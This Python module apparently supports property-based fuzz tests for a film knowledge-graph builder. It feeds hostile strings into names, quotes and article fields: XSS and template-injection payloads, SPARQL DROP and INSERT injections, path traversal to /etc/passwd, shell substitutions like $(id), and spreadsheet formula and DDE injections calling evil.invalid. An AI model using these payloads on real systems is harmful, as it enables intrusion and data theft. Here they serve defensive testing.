"""Names and words that mean something to a browser, a shell, a parser, a disk or a spreadsheet."""

from collections.abc import Callable
from dataclasses import replace
from datetime import date
from hashlib import sha256

from hypothesis import strategies as st
from strategies import claims

from kg import assemble, resolve
from kg.graph import Graph
from kg.model import Article, Claim, Mention, Span, Value

HTML = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "` onfocus=alert(1) autofocus ",
    "--><svg/onload=alert(1)>",
    "<!--",
    "]]><![CDATA[",
    "&lt;b&gt;&amp;&#60;&quot;",
    "{{ 7*7 }}{% raw %}{{ x.__class__ }}",
    "${alert(1)}",
    "</noscript><iframe src=//evil.invalid>",
    "</style><link rel=stylesheet href=//evil.invalid/x.css>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    'http://evil.invalid/" onclick=alert(1) x="',
    "https://evil.invalid/a b<c>\\d",
    "//evil.invalid/x",
    "file:///etc/passwd",
    "urn:x:<y>",
]
SPARQL = [
    '" } ; DROP ALL ; {',
    "} } ; INSERT DATA { <urn:hacked> <urn:hacked> <urn:hacked> } ; #",
    "?film . } UNION { SERVICE <http://evil.invalid/> { ?s ?p ?o } ",
    '\\"@en . <urn:hacked> <urn:hacked> "',
    "\"\"\"'''",
    "\\u0022 \\U0001F600 \\",
    "$film ?film {film} <film>",
]
PATHS = [
    "..", "../../../etc/passwd", "/etc/passwd", "..\\..\\windows", "C:\\x", "CON", "con.html",
    "nul", "LPT1.txt", "a.", "a ", ".hidden", "-rf", "~root", "%2e%2e%2f", "index", "INDEX",
    "Index",    "x" * 1000, "é" * 300, "a/b", "a\0b", "*", "$(id)", "`id`", "|cat",
]  # fmt: skip
LETTERS = [
    "\x1b[2J\x1b[31mred", "\x1b]8;;http://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
    "\x9b31m", "\x07\x08\x7f",
    "a\rb", "a\nb\n\nc", "a\tb", "\v\f\x1c\x1d\x1e\x85\u2028\u2029", "\0",
    "\ufffe\uffff\ufdd0", "\U0001ffff",
    "\u202eevil\u202c", "\u2066\u2067x\u2069", "\u200b\u200d\ufeff", "\u0301\u0301a", "שלום עולם",
    "\U000e0041", "\ue000", "\ufffd", " ", "\u00a0", "Z\u0351\u036b\u0343" * 20,
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.invalid/"&A1,"x")', "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
    "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1", '";=1;"', "=cmd|'/C calc'!A0", "%0A=1",
]  # fmt: skip
SURROGATES = ["\ud800", "a\udfffb", "\udc80\udcff"]
"""Half letters: of the command line, or of JSON; no file and no engine can hold them."""
NAMES = [*HTML, *ADDRESSES, *SPARQL, *PATHS, *LETTERS, *FORMULAS]

_pieces = st.lists(st.sampled_from([*NAMES, "Tide", " ", "“", "'", '"', "<", ">", "&"]), max_size=4)
names = st.one_of(
    st.sampled_from(NAMES), _pieces.map("".join), st.text(min_size=1, max_size=40)
).filter(bool)
"""A name that does harm where it is taken for anything else."""

IDS = st.sampled_from([*HTML, *PATHS, *LETTERS, *SPARQL, "a", "A"])


@st.composite
def claim_lists(draw: st.DrawFn, most: int = 5) -> list[Claim]:
    """Claims of the ontology's patterns whose names, words and ids do harm."""
    found = draw(st.lists(claims(), min_size=1, max_size=most))
    few = draw(st.lists(names, min_size=1, max_size=3))  # few: so that things meet
    ids = draw(st.lists(IDS, min_size=1, max_size=2))
    return [_poisoned(each, draw, st.sampled_from(few), st.sampled_from(ids)) for each in found]


@st.composite
def told(draw: st.DrawFn) -> tuple[list[Article], list[Claim]]:
    """Claims, and the articles that they are of, or some of them."""
    said = draw(claim_lists())
    ids = sorted({each.evidence.article for each in said})
    some = draw(st.lists(st.sampled_from(ids), unique=True))
    return [_article(each, said, draw) for each in some], said


def graph_of(given: tuple[list[Article], list[Claim]]) -> Graph:
    """The graph of articles and their claims."""
    articles, said = given
    found = resolve.resolution(said, articles=articles)
    return assemble.graph(found.facts, articles=articles, notes=found.notes)


def graph_of_names(*words: str) -> Graph:
    """A graph in which every name, word and heading is one of those given, each in each place."""
    articles, said = [], []
    for place, word in enumerate(words):
        text = f"{word} {word}"
        span = Span(len(word) + 1, len(text))
        articles.append(_made(f"{word} {place}", text, word))
        said += _said(f"{word} {place}", word, span)
    return graph_of((articles, said))


graphs = told().map(graph_of)


def _poisoned(
    claim: Claim, draw: st.DrawFn, words: st.SearchStrategy[str], ids: st.SearchStrategy[str]
) -> Claim:
    def other(end: Mention | Value) -> Mention | Value:
        if isinstance(end, Mention):
            name = draw(words)
            span = Span(0, len(name))
            return replace(end, text=name, span=span, name=name, within=draw(st.just("") | words))
        free = end.datatype in ("xsd:string", "xsd:anyURI", "film:Amount")
        return replace(end, text=draw(words)) if free else end

    quote = draw(words)
    evidence = replace(
        claim.evidence,
        article=draw(ids),
        quote=quote,
        span=Span(0, len(quote)),
        speaker=draw(st.none() | words),
    )
    subject = other(claim.subject)
    assert isinstance(subject, Mention)
    return replace(
        claim,
        subject=subject,
        object=other(claim.object),
        qualifiers=tuple(replace(each, value=other(each.value)) for each in claim.qualifiers),
        evidence=evidence,
    )


def _article(name: str, said: list[Claim], draw: st.DrawFn) -> Article:
    quotes = [each.evidence.quote for each in said if each.evidence.article == name]
    text = draw(st.sampled_from([quotes[0], " ".join(quotes), f"{quotes[0]}{draw(names)}"]))
    return _made(name, text, draw(names), draw(st.none() | st.just(date(2020, 2, 29))))


def _made(name: str, text: str, word: str, day: date | None = date(2020, 2, 29)) -> Article:
    address = f"http://evil.invalid/{word}"
    digest = sha256(text.encode()).hexdigest()
    return Article(
        name, digest, text, (Span(0, len(text)),), word, word, word, day, (word, address)
    )


def _said(article: str, word: str, span: Span) -> list[Claim]:
    from corpora import named, says  # noqa: PLC0415  they draw nothing

    def of(*parts: object, **more: Mention | Value) -> Claim:
        claim = says(article, *parts, **more)
        evidence = replace(claim.evidence, quote=word, span=span, speaker=word)
        return replace(claim, evidence=evidence)

    work, person = named(word, "Film"), named(f"{word} x")
    return [
        of(work, "director", person),
        of(work, "castMember", named(word), character=named(word, "Character", word)),
        of(work, "genre", Value(word)),
        of(person, "quotation", Value(word), work=work),
        of(work, "awardReceived", named(word, "Award"), category=named(word, "AwardCategory")),
        of(work, "releaseDate", Value("2020-11-20", "xsd:date"), territory=named(word, "Place")),
    ]


def in_turn(law: Callable[[str], None]) -> Callable[[str], None]:
    """Try a law of one name with all that are known to do harm."""
    from hypothesis import example  # noqa: PLC0415  for the laws alone

    for name in NAMES:
        law = example(name)(law)
    return law
